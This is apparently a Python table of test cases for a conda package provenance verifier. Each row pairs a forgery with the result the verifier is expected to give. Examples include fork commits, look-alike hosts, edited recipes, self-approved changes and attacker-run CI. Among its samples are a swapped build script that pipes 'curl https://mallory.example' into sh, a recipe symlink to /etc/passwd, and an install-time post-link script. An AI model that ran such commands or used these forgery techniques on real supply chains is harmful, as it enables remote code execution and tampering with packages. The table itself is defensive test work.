"""The table of forgeries: what an attacker may do, and what ``verify`` says of it."""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from acceptance_table import (
    CONSISTENT,
    FAIL,
    NOT_APPLICABLE,
    OPEN,
    PASS,
    REFUTED,
    Row,
    also,
    expected,
    named,
    nobody_named,
    policy,
    ready,
)
from acceptance_world import (
    BUILD_SH,
    FORK,
    HELLO,
    LOOK_ALIKE,
    MALLORYS_CI,
    META_YAML,
    RENDERED,
    World,
    digest_of,
)
from ci_model import CiJob, CiRun, block
from forge_model import Opinion
from signing_rows import SIGNED

from conda_provenance.packages.contents import PackageFile
from conda_provenance.packages.read_contents import read_contents
from conda_provenance.run_api import Trigger

Make = Callable[[World], Path]

EXISTS, ON_BRANCH, RECIPE = "commit-exists", "commit-on-branch", "recipe-matches"
REVIEWED, RUN, ARTIFACT = "commit-reviewed", "run-matches", "artifact-in-run"

STORED_ONLY = "stores the commit, but none of its branches and tags has it"


def at(commit: str, **given: Any) -> Make:
    """The honest package and a true log of it, which name another commit."""
    return lambda world: world.actions(commit=commit, **given)


# --- the commit ----------------------------------------------------------------------------------

COMMIT = (
    Row(
        "sha of another repository",
        lambda world: world.actions(sha=world.many["tip"]),
        EXISTS,
        FAIL,
        "has no commit",
        REFUTED,
        others={ON_BRANCH: NOT_APPLICABLE, RECIPE: NOT_APPLICABLE},
    ),
    Row(
        "sha of a fork, which the forge serves as if it were the repository's own",
        at("fork"),
        ON_BRANCH,
        FAIL,
        STORED_ONLY,
        REFUTED,
        others={EXISTS: PASS, RECIPE: PASS},
    ),
    Row(
        "sha of an unmerged pull request",
        at("closed"),
        ON_BRANCH,
        FAIL,
        STORED_ONLY,
        REFUTED,
        others={EXISTS: PASS},
    ),
    Row(
        "the test merge of an open pull request",
        at("unmerged-test-merge"),
        ON_BRANCH,
        FAIL,
        STORED_ONLY,
        REFUTED,
    ),
    Row(
        "the id of a tree, as sha",
        lambda world: world.actions(sha=world.hello.git("rev-parse", "main^{tree}")),
        EXISTS,
        FAIL,
        "has no commit",
        REFUTED,
    ),
    Row(
        "the id of a tag, as sha",
        lambda world: world.actions(sha=world.hello.git("rev-parse", "refs/tags/v1.0")),
        EXISTS,
        FAIL,
        "has no commit",
        REFUTED,
    ),
    Row(
        "a branch's name as sha",
        lambda world: world.package(sha="main"),
        "well-formed",
        FAIL,
        "sha is not a commit hash",
        REFUTED,
    ),
    Row("sha of a deleted branch", at("deleted-branch"), ON_BRANCH, FAIL, STORED_ONLY, REFUTED),
    Row(
        "sha that was forced away from the branch",
        at("forced-away"),
        ON_BRANCH,
        FAIL,
        STORED_ONLY,
        REFUTED,
    ),
    Row(
        "side commit of a merged change: its evil was reverted before the merge",
        at("side-first"),
        ON_BRANCH,
        OPEN,
        "never was the branch itself",
        OPEN,
    ),
    Row(
        "sha that a tag alone has",
        at("tag-only"),
        ON_BRANCH,
        OPEN,
        "is reached by the tag v0.9",
        OPEN,
    ),
    Row(
        "sha of another branch",
        at("unmerged"),
        ON_BRANCH,
        OPEN,
        "expect that branch by --expect-ref or a policy, if it counts",
        OPEN,
    ),
    Row(
        "sha of another branch than the expected one",
        at("unmerged"),
        ON_BRANCH,
        FAIL,
        "and not on the branch main",
        REFUTED,
        also("--expect-ref", "main"),
    ),
    Row(
        "sha of another commit than the expected one",
        lambda world: world.actions(commit="second"),
        "expected",
        FAIL,
        "its commit is",
        REFUTED,
        lambda world: ("--expect-repo", f"https://github.com/{HELLO}",
                       "--expect-sha", world.hello["first"]),
    ),
)  # fmt: skip


# --- the repository ------------------------------------------------------------------------------


def of_a_fork(world: World) -> Path:
    """All is true: it was built from the fork's own branch, by the fork's own run."""
    return world.actions(commit="fork", repository=FORK)


def of_a_look_alike(world: World) -> Path:
    """A server of the attacker's own, where all is well, with changes, runs and logs."""
    return world.actions(
        repository=f"https://{LOOK_ALIKE}/{HELLO}", github=world.look_alike, commit="squash"
    )


REPOSITORY = (
    Row(
        "a fork that names itself",
        of_a_fork,
        "expected",
        FAIL,
        f"its repository is https://github.com/{FORK}",
        REFUTED,
    ),
    Row(
        "a fork that names itself, and nobody named a repository",
        of_a_fork,
        "expected",
        NOT_APPLICABLE,
        "which the package itself names: nobody else named a repository",
        CONSISTENT,
        nobody_named,
        also_says="which the package itself names",
        others={ON_BRANCH: PASS, RECIPE: PASS, RUN: PASS, ARTIFACT: PASS},
    ),
    Row(
        "a look-alike organisation",
        lambda world: world.actions(repository="conda-f0rge/hello-feedstock", commit="fork"),
        "expected",
        FAIL,
        "its repository is https://github.com/conda-f0rge/hello-feedstock",
        REFUTED,
        ready("conda-forge"),
    ),
    Row(
        "a look-alike host",
        of_a_look_alike,
        "expected",
        FAIL,
        f"its repository is https://{LOOK_ALIKE}/",
        REFUTED,
    ),
    Row(
        "a look-alike host, and nobody named a repository",
        of_a_look_alike,
        RUN,
        OPEN,
        "says so of itself",
        CONSISTENT,
        nobody_named,
        others={REVIEWED: OPEN, ARTIFACT: OPEN},
    ),
    *(
        Row(
            f"an address that reads like the expected one: `{address}`",
            lambda world, address=address: world.package(repository=address),
            "expected",
            FAIL,
            why,
            REFUTED,
        )
        for address, why in (
            (f"https://github.com@{LOOK_ALIKE}/{HELLO}", "since it names a user"),
            (f"https://github.com/{HELLO}/../../{FORK}", "since it has a dot as a segment"),
            (f"https://github.com./{HELLO}", "or a dot after it"),
            (f"http://github.com/{HELLO}", f"its repository is http://github.com/{HELLO}"),
            (
                f"https://github.com:444/{HELLO}",
                f"its repository is https://github.com:444/{HELLO}",
            ),
        )
    ),
    Row(
        "a name of the organisation that leads (301) to another owner",
        lambda world: world.actions(
            repository="conda-forge/moved-feedstock", commit="fork", at=FORK
        ),
        "expected",
        FAIL,
        f"it answers at https://github.com/{FORK}",
        REFUTED,
        ready("conda-forge"),
    ),
    Row(
        "an organisation that was renamed, and its old name registered again",
        lambda world: world.actions(repository="was-forge/hello-feedstock", commit="fork"),
        "expected",
        FAIL,
        "the name may have been registered again by another",
        REFUTED,
        policy("owner_id = 99", repository="https://github.com/was-forge/hello-feedstock"),
    ),
    Row(
        "a repository that was deleted, and its name registered again",
        lambda world: world.actions(repository="was-forge/hello-feedstock", commit="fork"),
        "expected",
        FAIL,
        "the number of its repository is 668, not 4711",
        REFUTED,
        policy("repository_id = 4711", repository="https://github.com/was-forge/hello-feedstock"),
    ),
)


# --- the recipe ----------------------------------------------------------------------------------


def recipe(name: str, data: bytes | None) -> Make:
    """The package with one other file in its recipe, and a true log of it."""
    return lambda world: world.actions(changes={f"info/recipe/{name}": data})


def under_another_name(world: World) -> Path:
    """Recipe and stamp of an honest package, around the files of another."""
    files = read_contents(world.built).files
    index = json.loads(files["info/index.json"].data)
    build = index["build"]
    changes = {"info/index.json": json.dumps({**index, "name": "openssl"}).encode()}
    return world.actions(changes=changes, stem=f"openssl-1.0-{build}", payload={"lib": b"evil"})


def without_template(world: World) -> Path:
    """In conda-build's form. The rendered recipe says anything, and the original is left out."""
    changes: dict[str, Any] = {
        "info/recipe/meta.yaml": RENDERED.replace("python", "pyth0n").encode(),
        "info/recipe/meta.yaml.template": None,
    }
    return world.actions(
        of=world.old_built, changes=changes, sha=world.old["tip"],
        repository="conda-forge/old-feedstock",
    )  # fmt: skip


def beside_parent(world: World) -> Path:
    """conda-build packages the whole folder below parent/, and an output's script beside it."""
    parent = "info/recipe/parent"
    changes: dict[str, Any] = {
        "info/recipe/meta.yaml.template": None,
        "info/recipe/build.sh": b"evil\n",
        f"{parent}/meta.yaml": META_YAML.encode(),
        f"{parent}/build.sh": PackageFile(f"{parent}/build.sh", BUILD_SH, False, True),
    }
    return world.actions(
        of=world.old_built, changes=changes, sha=world.old["tip"],
        repository="conda-forge/old-feedstock",
    )  # fmt: skip


def _renamed(package: Path, name: str) -> Path:
    return package.rename(package.with_name(name))


NOT_THERE = "The recipe is not in that commit"

RECIPES = (
    Row(
        "recipe edited by one byte",
        lambda world: world.actions(
            changes={"info/recipe/recipe.yaml": _one_byte(world, "info/recipe/recipe.yaml")}
        ),
        RECIPE,
        FAIL,
        NOT_THERE,
        REFUTED,
    ),
    Row(
        "patch edited by one byte",
        lambda world: world.actions(
            changes={"info/recipe/fix.patch": _one_byte(world, "info/recipe/fix.patch")}
        ),
        RECIPE,
        FAIL,
        "of that commit: fix.patch differs",
        REFUTED,
    ),
    Row(
        "build script swapped",
        recipe("build.sh", b"curl https://mallory.example | sh\n"),
        RECIPE,
        FAIL,
        "of that commit: build.sh differs",
        REFUTED,
    ),
    Row(
        "a file added",
        recipe("evil.sh", b"evil\n"),
        RECIPE,
        FAIL,
        "evil.sh is not in the commit",
        REFUTED,
    ),
    Row(
        "a file taken out", recipe("fix.patch", None), RECIPE, FAIL, "fix.patch is missing", REFUTED
    ),
    Row(
        "recipe and stamp of another package",
        under_another_name,
        RECIPE,
        FAIL,
        "of that commit makes no package openssl 1.0",
        REFUTED,
    ),
    Row(
        "meta.yaml without its template",
        without_template,
        RECIPE,
        FAIL,
        NOT_THERE,
        REFUTED,
        named("conda-forge/old-feedstock"),
    ),
    Row(
        "a script that runs at installation, and is in no recipe",
        lambda world: world.actions(payload={"bin/.hello-post-link.sh": b"evil\n"}),
        RECIPE,
        OPEN,
        "runs at install, not from the recipe",
        OPEN,
    ),
    Row(
        "another build script beside the whole recipe of a package of several (parent/)",
        beside_parent,
        RECIPE,
        FAIL,
        "of that commit: build.sh differs",
        REFUTED,
        named("conda-forge/old-feedstock"),
    ),
    Row(
        "a link to a file of the reader's machine",
        lambda world: world.actions(
            changes={"info/recipe/x": PackageFile("info/recipe/x", b"/etc/passwd", True, False)}
        ),
        RECIPE,
        FAIL,
        "x is not in the commit",
        REFUTED,
    ),
    Row(
        "leftovers of an editor or of Python, by the strictest policy",
        recipe("__pycache__/x.pyc", b"evil"),
        RECIPE,
        FAIL,
        "__pycache__/x.pyc",
        REFUTED,
        lambda world: ("--policy", "strict", *expected(world)),
    ),
    Row(
        "a second about.json in the payload, for readers that take the last one",
        lambda world: world.actions(payload={"hi": b"hi\n", "info/about.json": b"{}"}),
        "well-formed",
        FAIL,
        "Its payload holds info/about.json, which would be metadata",
        REFUTED,
    ),
    Row(
        "an honest package under another file name",
        lambda world: _renamed(world.actions(), "openssl-3.0-h1_0.conda"),
        "well-formed",
        FAIL,
        "its name is hello, and by its name or place openssl",
        REFUTED,
    ),
)


def _one_byte(world: World, name: str) -> bytes:
    data = bytearray(read_contents(world.built).files[name].data)
    data[-2] ^= 1
    return bytes(data)


# --- the change ----------------------------------------------------------------------------------

ONE_REVIEW = policy(
    'reviews = 1\nfresh_reviews = true\nbots = ["autotick"]\nchecks = ["commit-reviewed"]'
)
TOO_FEW = "1 approval is wanted and 0 can be counted"


def approved(name: str, *said: Opinion, **fields: Any) -> Make:
    """A package of a change of which people said this."""

    def make(world: World) -> Path:
        if name not in world.hello.shas:
            world.change(name, *said, **fields)
        return world.actions(commit=name)

    return make


def before_the_last_push(world: World) -> Path:
    world.change("stale")
    number = world.model.changes[-1].number
    first = world.hello["stale-first"]
    world.model.edit(number, said=(Opinion("dora", commit=first),))
    return world.actions(commit="stale")


def of_the_upstream(world: World) -> Path:
    """GitHub answers for a fork's commits with the changes of what it was forked from."""
    fork = world.github.repositories[FORK]
    fork.upstream = world.model
    return world.actions(commit="squash", repository=FORK)


CHANGE = (
    Row(
        "approved only by the author",
        approved("by-author", Opinion("bob")),
        REVIEWED,
        FAIL,
        "bob opened the change",
        REFUTED,
        ONE_REVIEW,
    ),
    Row(
        "approved only by somebody who wrote commits of it",
        approved("by-writer", Opinion("eve"), authors=("bob", "eve")),
        REVIEWED,
        FAIL,
        "eve wrote commits of the change",
        REFUTED,
        ONE_REVIEW,
    ),
    Row(
        "approved only by a bot",
        approved("by-bot", Opinion("ci", is_bot=True)),
        REVIEWED,
        FAIL,
        "ci is a bot",
        REFUTED,
        ONE_REVIEW,
    ),
    Row(
        "approved only by a bot that the forge takes for a person",
        approved("by-user-bot", Opinion("autotick")),
        REVIEWED,
        FAIL,
        "autotick is a bot",
        REFUTED,
        ONE_REVIEW,
    ),
    Row(
        "approved only before the last push",
        before_the_last_push,
        REVIEWED,
        FAIL,
        "dora approved before the last push",
        REFUTED,
        ONE_REVIEW,
    ),
    Row(
        "approved only by a stranger",
        approved("by-stranger", Opinion("mallory", has_right=False)),
        REVIEWED,
        FAIL,
        "mallory has no right to approve",
        REFUTED,
        ONE_REVIEW,
    ),
    Row(
        "an approval that was dismissed",
        approved("dismissed", Opinion("dora", "dismissed")),
        REVIEWED,
        FAIL,
        "dora was dismissed",
        REFUTED,
        ONE_REVIEW,
    ),
    Row(
        "approved by nobody",
        approved("by-nobody"),
        REVIEWED,
        FAIL,
        TOO_FEW,
        REFUTED,
        ONE_REVIEW,
    ),
    Row(
        "pushed to the branch, past every review",
        at("rerendered"),
        REVIEWED,
        FAIL,
        "No merged pull request brought this commit into main.",
        REFUTED,
        ONE_REVIEW,
    ),
    Row(
        "a recipe that was changed while the approved change was merged",
        approved("evil-merge", Opinion("dora"), evil=True),
        REVIEWED,
        FAIL,
        "was merged with changes nobody reviewed: recipe/build.sh",
        REFUTED,
        ONE_REVIEW,
    ),
    Row(
        "a fork that shows the reviews of what it was forked from",
        of_the_upstream,
        REVIEWED,
        FAIL,
        "not of this repository",
        REFUTED,
        policy(
            'reviews = 1\nchecks = ["commit-reviewed"]', repository=f"https://github.com/{FORK}"
        ),
    ),
)


# --- the run -------------------------------------------------------------------------------------


def ran(**run: Any) -> Make:
    return lambda world: world.actions(run=run)


def of_nobodys_project(world: World) -> Path:
    """Anybody has an organisation at dev.azure.com, and may build anybody's repository there."""
    return world.pipelines(
        commit="before-tip",
        project="mallory/evil",
        is_shown=False,
        flow_run_url="https://dev.azure.com/mallory/evil/_build/results?buildId=1",
    )


def of_his_own_ci(world: World) -> Path:
    package = world.package(flow_run_id=f"woodpecker_{MALLORYS_CI}/{HELLO}/12")
    log = block(f"linux-64/{package.name}", digest_of(package))
    jobs = (CiJob("build", log),)
    world.mallorys_ci.knows(
        CiRun(world.hello["tip"], repository=HELLO, head_repository=HELLO, jobs=jobs), world.hello
    )
    return package


RUNS = (
    Row(
        "run of another repository of the same forge",
        lambda world: world.actions(at=FORK),
        RUN,
        OPEN,
        "has no run",
        CONSISTENT,
    ),
    Row(
        "run of another repository, which Azure's app shows at the commit",
        lambda world: world.pipelines(run={"repository": FORK}),
        RUN,
        FAIL,
        "is of another repository",
        REFUTED,
    ),
    Row(
        "run of a fork's commit",
        ran(head_repository=FORK),
        RUN,
        FAIL,
        "built a commit of another repository",
        REFUTED,
    ),
    Row(
        "run of another commit",
        lambda world: world.actions(run={"sha": world.hello["first"]}),
        RUN,
        FAIL,
        "built another commit",
        REFUTED,
    ),
    Row(
        "run of a pull request",
        ran(trigger=Trigger.PULL_REQUEST),
        RUN,
        FAIL,
        "was started by a pull request",
        CONSISTENT,
    ),
    Row(
        "run that another workflow started (workflow_run)",
        ran(trigger=Trigger.OTHER),
        RUN,
        OPEN,
        "was started by workflow_run",
        CONSISTENT,
    ),
    Row(
        "run that failed, in the job that made the package",
        lambda world: world.actions(
            run={"success": False}, jobs=(CiJob("build", "{block}", success=False),)
        ),
        RUN,
        FAIL,
        "the job that named the package failed",
        CONSISTENT,
    ),
    Row(
        "a page as the run, and no id",
        lambda world: world.package(flow_run_url=f"https://github.com/{HELLO}/actions/runs/7000"),
        RUN,
        OPEN,
        "a page is whatever its maker wrote",
        CONSISTENT,
    ),
    Row(
        "a CI server of the attacker's own",
        of_his_own_ci,
        RUN,
        OPEN,
        f"{MALLORYS_CI} says so of itself",
        CONSISTENT,
    ),
    Row(
        "the attacker's project at a public CI",
        of_nobodys_project,
        RUN,
        OPEN,
        "says so of itself",
        CONSISTENT,
    ),
)


# --- the file ------------------------------------------------------------------------------------


def one_byte_changed(world: World) -> Path:
    """An honest package, the run that built it, and another payload."""
    honest = world.actions()
    about = read_contents(honest).files["info/about.json"].data
    run = json.loads(about)["extra"]["flow_run_id"]
    forged = world.package(payload={"hi": b"ho\n"}, flow_run_id=run)
    assert digest_of(forged) != digest_of(honest)
    return forged


def listed(world: World) -> Path:
    """Anybody who may write to the repository may post an attestation."""
    package = world.actions(log="building\n")
    world.github.repositories[HELLO].attested[digest_of(package)] = [b"{}"]
    return package


NEVER_NAMES = "never names"
_OTHER_LINE = "conda-provenance: {path} sha256={other}"

FILE = (
    Row(
        "honest package with one byte of its payload changed",
        one_byte_changed,
        ARTIFACT,
        FAIL,
        "with another digest, and every job and attempt was read",
        REFUTED,
        others={RECIPE: PASS, RUN: PASS},
    ),
    Row(
        "hash in no log",
        lambda world: world.actions(log="building\ndone\n"),
        ARTIFACT,
        OPEN,
        NEVER_NAMES,
        CONSISTENT,
    ),
    Row(
        "hash of another file: its block has another name",
        lambda world: world.actions(log="{foreign block}"),
        ARTIFACT,
        OPEN,
        NEVER_NAMES,
        CONSISTENT,
    ),
    Row(
        "hash only in the line of a package that was downloaded",
        lambda world: world.actions(log="Downloading {path} ... sha256={sha256} done\n"),
        ARTIFACT,
        OPEN,
        NEVER_NAMES,
        CONSISTENT,
    ),
    Row(
        "hash right after another file's name",
        lambda world: world.actions(log="{path}\nother-1.0-0.conda\n-- SHA256: {sha256}\n"),
        ARTIFACT,
        OPEN,
        NEVER_NAMES,
        CONSISTENT,
    ),
    Row(
        "log that prints the block of another file of that name",
        lambda world: world.actions(log="{other block}{block}"),
        ARTIFACT,
        OPEN,
        "The log contradicts itself",
        CONSISTENT,
    ),
    Row(
        "our own line, printed by a test of the package beside the build's block",
        lambda world: world.actions(log="{other block}{line}\n"),
        ARTIFACT,
        OPEN,
        "The log contradicts itself",
        CONSISTENT,
    ),
    Row(
        "our own line, in another job than the last one that printed it",
        lambda world: world.actions(
            jobs=(
                CiJob("tests", "{line}\n", finished="2026-02-26T13:10:00Z"),
                CiJob("build", f"{_OTHER_LINE}\n", started="2026-02-26T13:20:00Z"),
            )
        ),
        ARTIFACT,
        OPEN,
        "The log contradicts itself",
        CONSISTENT,
    ),
    Row(
        "job that failed after it named the package",
        lambda world: world.actions(
            jobs=(CiJob("build", "{block}", success=False), CiJob("tests", "")),
        ),
        ARTIFACT,
        FAIL,
        "which failed",
        CONSISTENT,
    ),
    Row(
        "an attestation that somebody with write access posted",
        listed,
        ARTIFACT,
        OPEN,
        "is listed by the forge; see the check attested",
        CONSISTENT,
    ),
)

FORGERIES: dict[str, Sequence[Row]] = {
    "the commit": COMMIT,
    "the repository": REPOSITORY,
    "the recipe": RECIPES,
    "the change": CHANGE,
    "the run": RUNS,
    "the file": FILE,
    "the signature": SIGNED,
}
